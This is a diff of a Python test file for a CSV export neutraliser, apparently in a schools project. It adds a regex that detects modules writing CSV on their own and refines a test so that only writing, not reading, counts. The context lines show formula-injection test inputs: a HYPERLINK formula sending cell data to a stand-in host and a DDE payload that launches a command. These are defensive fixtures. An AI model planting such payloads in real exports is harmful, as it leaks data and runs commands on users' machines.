@@ -16,6 +16,9 @@ from sspf.csvexport import neutralise
 from tests.schools.factories import SchoolFactory, assign
 
 ROOT = Path(__file__).resolve().parents[2]
+WRITES_CSV = re.compile(
+    r"csv\.(writer|DictWriter)\b|^\s*from csv import .*\b(writer|DictWriter)\b", re.M
+)
 HOSTILE = {
     '=HYPERLINK("https://evil.example/?"&A1;"Klicka")': "name",
     "@SUM(1+1)*cmd|' /C calc'!A0": "name",
@@ -81,7 +84,8 @@ def test_other_values_are_written_as_they_are(value, written):
 
 
 def test_every_export_goes_through_the_one_writer():
-    """A module that writes CSV on its own could forget the neutralising."""
+    """A module that writes CSV on its own could forget the neutralising. (Reading CSV, as the
+    load benchmark reads Locust's figures, is no export.)"""
     own_writers = []
     for path in ROOT.glob("*/**/*.py"):
         parts = path.relative_to(ROOT).parts
@@ -89,6 +93,6 @@ def test_every_export_goes_through_the_one_writer():
             continue
         if path.relative_to(ROOT) == Path("sspf/csvexport.py"):
             continue
-        if re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.MULTILINE):
+        if WRITES_CSV.search(path.read_text()):
             own_writers.append(str(path.relative_to(ROOT)))
     assert own_writers == []
